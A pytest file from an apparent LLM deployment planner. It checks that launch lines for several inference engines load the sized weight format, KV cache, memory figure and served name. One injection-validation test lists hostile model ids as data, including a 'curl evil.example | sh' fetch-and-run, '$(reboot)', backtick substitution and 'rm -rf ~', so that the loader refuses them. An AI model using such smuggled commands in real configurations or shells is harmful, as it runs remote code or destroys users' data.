"""Every launch line loads the weights in the format the deployment was sized in, with the
KV cache and memory figure it was sized with, for every model, format and engine of the
catalog: a line that starts a model in another format than the plan counted (a BF16
checkpoint where FP8 was sized) is a plan that does not run."""

from __future__ import annotations

import itertools
import json
import shutil
import subprocess
from typing import get_args

import pytest
import yaml

from breakeven.catalog import Catalog
from breakeven.catalog.schema import OpenModel, Quant
from breakeven.errors import CatalogError, InputError
from breakeven.loaders import default_catalog_dir, load_catalog, parse_workload
from breakeven.planner.checkpoint import CHECKPOINT_VAR, ONLINE, weights_for
from breakeven.planner.deploy import launch_lines
from breakeven.planner.emit_gateway import gateway_config
from breakeven.planner.search import plan
from breakeven.planner.sizing import size
from tests.support.launch import trt_options
from tests.support.paths import EXAMPLES, TODAY

QUANTS = get_args(Quant)  # every format the catalog has a word for, a new one included
# what each engine's quantize-at-load flag must say for each format
_FLAG_SAYS = {"fp8": "fp8", "int8": "eetq"}


def test_every_model_and_format_resolves_to_weights_of_that_format(catalog):
    for model, quant, engine in itertools.product(catalog.models, QUANTS,
                                                  ("vllm", "sglang", "tgi", "tensorrt-llm")):
        w = weights_for(model, quant, engine)
        base = model.hf_ids[0] if model.hf_ids else model.id
        # the name it answers to: vLLM and SGLang are told the model's own; trtllm-serve
        # and TGI list what they loaded
        renames = engine in ("vllm", "sglang")
        assert w.served == (base if renames or not w.known else w.repo)
        if quant == model.native_quant:
            assert (w.repo, w.flag) == (base, None)
        elif w.known and w.repo != base:  # a pre-quantized checkpoint of that format
            assert w.repo in model.checkpoints.values()
            # only NVIDIA's exports need their method named, and only to vLLM
            assert w.flag is None or (engine == "vllm" and w.repo.startswith("nvidia/")
                                      and w.flag.startswith("--quantization modelopt"))
            assert engine != "tgi" or not w.repo.startswith("nvidia/")
        elif w.known:  # the engine quantizes the 16-bit checkpoint as it loads
            assert model.native_quant == "bf16" and w.flag is not None
            assert w.flag == ONLINE[engine][quant] and _FLAG_SAYS[quant] in w.flag
        else:  # nothing known: a placeholder the shell refuses to run, naming the format
            assert w.repo.startswith(f'"${{{CHECKPOINT_VAR}:?') and base in w.repo


def test_a_placeholder_stops_the_shell_and_says_what_to_fetch(catalog):
    w = weights_for(catalog.model("llama-3.1-70b"), "fp4", "vllm")
    assert not w.known
    run = subprocess.run(["bash", "-c", f"echo {w.repo}"], capture_output=True, text=True,
                         env={"PATH": "/usr/bin:/bin"})
    assert run.returncode != 0 and run.stdout == ""
    assert "NVFP4" in run.stderr and "meta-llama/Llama-3.1-70B-Instruct" in run.stderr
    ok = subprocess.run(["bash", "-c", f"echo {w.repo}"], capture_output=True, text=True,
                        env={"PATH": "/usr/bin:/bin", CHECKPOINT_VAR: "org/model-FP4"})
    assert ok.returncode == 0 and ok.stdout.strip() == "org/model-FP4"


def test_a_named_checkpoint_is_loaded_and_served_under_the_models_own_name(catalog):
    model = catalog.model("llama-3.1-70b").model_copy(
        update={"checkpoints": {"fp4": "org/Llama-3.1-70B-FP4"}})
    s = size(model, catalog.gpu("b200"), catalog.engine("vllm"), quant="fp4",
             input_len=1000, output_len=200)
    lines = launch_lines(s, engines=catalog.engines)
    for engine in ("vllm", "sglang"):
        flags = lines[engine].split()
        assert "org/Llama-3.1-70B-FP4" in flags and "--quantization" not in flags  # not NVIDIA's
        # the gateway asks for the model's own id (emit_gateway), so the engine serves it
        assert flags[flags.index("--served-model-name") + 1] == model.hf_ids[0]
    assert "trtllm-serve org/Llama-3.1-70B-FP4 " in lines["tensorrt-llm"]
    assert "tgi" not in lines  # TGI serves no NVFP4


def _sized(catalog, model, quant, engine, kv="auto"):
    gpu = catalog.gpu("b200" if quant == "fp4" else "h200")
    s = size(catalog.model(model), gpu, catalog.engine(engine), quant=quant, kv_dtype=kv,
             input_len=1000, output_len=200, link=catalog.interconnect_for(gpu))
    assert s.fits, s.reason
    return s


@pytest.mark.parametrize(("engine", "quant"), [
    (e.id, q) for e in load_catalog().engines for q in e.quantizations])
def test_lines_exist_only_for_engines_that_serve_the_format(catalog, quant, engine):
    # Ollama runs on one GPU only
    model = ("gpt-oss-120b" if quant == "mxfp4" else
             "llama-3.1-8b" if engine == "ollama" else "llama-3.1-70b")
    lines = launch_lines(_sized(catalog, model, quant, engine), engines=catalog.engines)
    assert next(iter(lines)) == engine
    gpu = catalog.gpu("b200" if quant == "fp4" else "h200")
    for other in lines:
        row = catalog.engine(other)
        assert quant in row.quantizations and (quant != "fp4" or gpu.fp4_tflops)
        w = weights_for(catalog.model(model), quant, other)
        assert w.repo in lines[other]
        if w.flag:
            assert w.flag in lines[other]
        for flag in ("--quantization", "--quantize"):  # no flag but the format's own
            if flag in lines[other].split():
                assert w.flag and w.flag.startswith(flag)


@pytest.mark.parametrize("engine", ["vllm", "sglang", "tensorrt-llm", "tgi"])
def test_every_line_carries_the_kv_cache_it_was_sized_with(catalog, engine):
    s = _sized(catalog, "llama-3.1-8b", "bf16", engine, kv="fp8")
    lines = launch_lines(s, engines=catalog.engines)
    assert set(lines) >= {"vllm", "sglang", "tensorrt-llm", "tgi"}
    assert "--kv-cache-dtype fp8" in lines["vllm"]
    assert "--kv-cache-dtype fp8_e4m3" in lines["sglang"]
    assert "--kv-cache-dtype fp8_e4m3fn" in lines["tgi"]
    assert trt_options(lines["tensorrt-llm"])["kv_cache_config"]["dtype"] == "fp8"
    plain = launch_lines(_sized(catalog, "llama-3.1-8b", "bf16", engine, kv="bf16"),
                         engines=catalog.engines)
    assert not any("kv-cache-dtype" in line for line in plain.values())
    assert trt_options(plain["tensorrt-llm"]) == {}


def test_each_engine_gets_its_own_memory_figure(catalog):
    """The sized engine's memory fraction means something else on another engine:
    TensorRT-LLM's is a share of the memory left after the weights, SGLang's a static
    fraction it computes from the GPU and chunk."""
    s = _sized(catalog, "llama-3.1-70b", "fp8", "sglang")
    lines = {k: v.split() for k, v in launch_lines(s, engines=catalog.engines).items()}
    sglang_own = f"{s.deployment.memory_utilization:.2f}"
    assert lines["sglang"][lines["sglang"].index("--mem-fraction-static") + 1] == sglang_own
    trt = lines["tensorrt-llm"]
    assert trt[trt.index("--kv_cache_free_gpu_memory_fraction") + 1] == (
        f"{catalog.engine('tensorrt-llm').gpu_memory_utilization:.2f}")
    vllm = lines["vllm"]
    assert vllm[vllm.index("--gpu-memory-utilization") + 1] == (
        f"{catalog.engine('vllm').memory_fraction:.2f}")
    assert sglang_own != "0.90"  # the case shows the difference


def test_a_checkpoint_of_the_models_own_format_is_refused(catalog):
    row = catalog.model("deepseek-v3").model_dump()
    row["checkpoints"] = {"fp8": "someone/DeepSeek-V3-FP8"}
    with pytest.raises(ValueError, match=r"checkpoints\.fp8"):
        OpenModel.model_validate(row)


def test_plan_with_4_bit_float_weights_gives_launch_lines(tmp_path, run_cli):
    """Once a traceback: a workload that allows NVFP4 on B200 made the launch lines look
    up a vLLM flag for fp4."""
    w = yaml.safe_load((EXAMPLES / "seed-worked-example.yaml").read_text())
    w["candidates"].update(gpus=["b200"], quantizations=["fp4"])
    path = tmp_path / "w.yaml"
    path.write_text(yaml.safe_dump(w))
    out = run_cli("plan", str(path), "--json", "--tokens-per-day", "1e9")
    assert out.returncode == 0, out.stderr
    chosen = json.loads(out.stdout)["chosen"]
    assert chosen["kind"] == "self_host" and chosen["deployment"]["quant"] == "fp4"
    launch = chosen["deployment"]["launch"]
    assert launch and all(CHECKPOINT_VAR in line for line in launch.values())


def test_nvidias_own_exports_are_passed_over_on_amd_gpus(catalog):
    """nvidia/ checkpoints are TensorRT Model Optimizer exports for NVIDIA GPUs: on an
    MI300X vLLM quantizes the BF16 checkpoint itself, and a format it cannot quantize
    gets the placeholder, not NVIDIA's export."""
    model = catalog.model("llama-3.1-70b")
    assert model.checkpoints["fp8"].startswith("nvidia/")
    assert weights_for(model, "fp8", "vllm", "nvidia").repo == model.checkpoints["fp8"]
    amd = weights_for(model, "fp8", "vllm", "amd")
    assert (amd.repo, amd.flag) == (model.hf_ids[0], "--quantization fp8")
    s = size(model, catalog.gpu("mi300x"), catalog.engine("vllm"), quant="fp8",
             input_len=1000, output_len=200)
    assert "nvidia/" not in " ".join(launch_lines(s, engines=catalog.engines).values())
    # a publisher's own release is for every vendor
    qwen = catalog.model("qwen3-32b")
    assert weights_for(qwen, "fp8", "vllm", "amd").repo == "Qwen/Qwen3-32B-FP8"


def test_catalog_checkpoints_are_hugging_face_ids_of_another_format(catalog):
    for model in catalog.models:
        for quant, repo in model.checkpoints.items():
            owner, _, name = repo.partition("/")
            assert owner and name and " " not in repo and quant != model.native_quant
            assert repo not in model.hf_ids[:1]


def test_a_server_started_from_a_checkpoint_is_the_catalogs_model(catalog):
    """trtllm-serve reports the repo it loaded as the model id; a benchmark of it must
    still calibrate the catalog's model."""
    for model in catalog.models:
        for repo in model.checkpoints.values():
            assert catalog.model(repo).id == model.id
            assert catalog.model(repo.upper()).id == model.id


@pytest.mark.parametrize(("field", "value"), [
    ("hf_ids", ["org/model; curl evil.example | sh"]),
    ("hf_ids", ["org/$(reboot)"]),
    ("hf_ids", ["no-owner"]),
    ("hf_ids", ["org/model name"]),
    ("checkpoints", {"fp4": "org/x}`id`"}),
    ("checkpoints", {"awq": "org/x\n--trust-remote-code"}),
    ("id", "llama; rm -rf ~"),
    ("checkpoints", {"fp5": "org/x"}),  # no such format
])
def test_ids_that_would_change_a_launch_line_are_refused_naming_the_file(tmp_path, field,
                                                                         value):
    """Model ids go into shell launch lines as they are: anything but a Hugging Face repo
    id (owner/name of letters, digits, '.', '_', '-') is refused where the catalog is read,
    not pasted into a command; so is a checkpoint of a format there is no word for."""
    shutil.copytree(default_catalog_dir(), tmp_path, dirs_exist_ok=True)
    path = tmp_path / "open_models.yaml"
    data = yaml.safe_load(path.read_text())
    data["models"][0][field] = value
    path.write_text(yaml.safe_dump(data))
    with pytest.raises(InputError, match=rf"open_models\.yaml: models\[0\]\.{field}"):
        load_catalog(tmp_path)


def test_one_hugging_face_id_names_one_model(catalog):
    """A checkpoint id claimed by two models would calibrate the wrong one."""
    a, b = catalog.model("llama-3.1-8b"), catalog.model("llama-3.1-70b")
    stolen = b.model_copy(update={"checkpoints": {**b.checkpoints,
                                                  "int8": a.checkpoints["fp8"]}})
    with pytest.raises(CatalogError, match=r"llama-3\.1-8b.*llama-3\.1-70b.*Instruct-FP8"):
        Catalog(gpus=catalog.gpus, offers=(), models=[a, stolen], hosted=(),
                engines=catalog.engines, quality=())


def _served_by(engine: str, line: str) -> str:
    """The model name a server started by ``line`` lists and answers to, read off the
    line as each engine reads its arguments."""
    words = line.replace('"', "").split()

    def after(flag: str) -> str:
        return words[words.index(flag) + 1]

    if engine in ("vllm", "sglang") and "--served-model-name" in words:
        return after("--served-model-name")
    if engine == "ollama":  # the copy's name, which Ollama tags "latest"
        return f"{words[-2].rstrip(';')}:latest"
    return after({"vllm": "serve", "sglang": "--model-path", "tgi": "--model-id",
                  "tensorrt-llm": "trtllm-serve"}[engine])


@pytest.mark.parametrize(("model", "quant", "gpu"), [
    ("llama-3.1-70b", "fp4", "b200"), ("llama-3.1-70b", "fp8", "h200"),
    ("qwen3-32b", "fp8", "h200"), ("llama-3.1-8b", "int4", "h200"),
    ("llama-3.1-8b", "bf16", "h200"), ("gpt-oss-20b", "mxfp4", "h200")])
def test_the_name_the_gateway_asks_for_is_the_name_each_line_serves(catalog, model, quant,
                                                                     gpu):
    """Once wrong: the gateway asked every engine for the Hugging Face id, which
    trtllm-serve (no rename flag) and Ollama (its own tags) never serve; the readiness
    probe then never put a backend marked for a 404 back."""
    m = catalog.model(model)
    for engine in catalog.engines:
        if quant not in engine.quantizations:
            continue
        s = size(m, catalog.gpu(gpu), engine, quant=quant, input_len=1000, output_len=200,
                 link=catalog.interconnect_for(catalog.gpu(gpu)))
        if not s.fits:
            continue
        lines = launch_lines(s, engines=catalog.engines)
        for name, line in lines.items():
            w = weights_for(m, quant, name, catalog.gpu(gpu).vendor)
            if w.known:
                assert _served_by(name, line) == w.served, (name, line)


def test_an_ollama_line_pulls_the_named_tag_and_serves_it_under_the_catalog_id(
        catalog, tmp_path):
    fake = tmp_path / "ollama"  # records each call; `serve` returns at once
    fake.write_text(f'#!/bin/sh\necho "$*" >> {tmp_path}/calls\n')
    fake.chmod(0o755)
    s = size(catalog.model("llama-3.1-8b"), catalog.gpu("l4"), catalog.engine("ollama"),
             quant="int4", input_len=1000, output_len=200)
    line = launch_lines(s)["ollama"]
    env = {"PATH": f"{tmp_path}:/usr/bin:/bin"}
    unset = subprocess.run(["bash", "-c", line], capture_output=True, text=True, env=env,
                           timeout=30)
    assert unset.returncode != 0 and "Q4_K_M" in unset.stderr
    assert not (tmp_path / "calls").exists()  # stopped before the server started
    ok = subprocess.run(["bash", "-c", line], capture_output=True, text=True, timeout=30,
                        env=env | {CHECKPOINT_VAR: "llama3.1:8b-instruct-q4_K_M"})
    assert ok.returncode == 0, ok.stderr
    calls = (tmp_path / "calls").read_text().splitlines()
    assert "serve" in calls  # in the background: its line may land anywhere
    assert [c for c in calls if c != "serve"][-2:] == [
        "pull llama3.1:8b-instruct-q4_K_M", "cp llama3.1:8b-instruct-q4_K_M llama-3.1-8b"]
    assert weights_for(catalog.model("llama-3.1-8b"), "int4", "ollama").served == (
        "llama-3.1-8b:latest")


@pytest.mark.parametrize(("engine", "model", "gpu", "quant"), [
    ("tensorrt-llm", "llama-3.1-70b", "h100-sxm", "fp8"),
    ("vllm", "llama-3.1-70b", "h100-sxm", "fp8"),
    ("ollama", "llama-3.1-8b", "l4", "int4")])
def test_the_emitted_gateway_asks_the_chosen_engine_for_the_name_its_line_serves(
        catalog, engine, model, gpu, quant):
    w = {"name": "self", "task": "chat", "quality": "small",
         "compliance": {"residency": ["us"]},
         "traffic": {"tokens_per_day": 2e9, "input_tokens": 800, "output_tokens": 200},
         "candidates": {"open_models": [model], "gpus": [gpu], "quantizations": [quant],
                        "engines": [engine], "hosted": [],
                        "allow_non_production": engine == "ollama"}}
    result = plan(parse_workload(w, "w.yaml"), catalog, today=TODAY)
    assert result.chosen and result.chosen.deployment, result.verdict
    dep = result.chosen.deployment
    assert dep.engine == engine and dep.quant == quant
    served = _served_by(engine, dep.launch[engine])
    backends = [b for b in gateway_config(result, catalog)["backends"]
                if b["hosting"] == "self"]
    assert backends and {b["model"] for b in backends} == {served}
    if engine == "tensorrt-llm":  # it serves NVIDIA's FP8 export under that export's id
        assert served == catalog.model(model).checkpoints["fp8"]
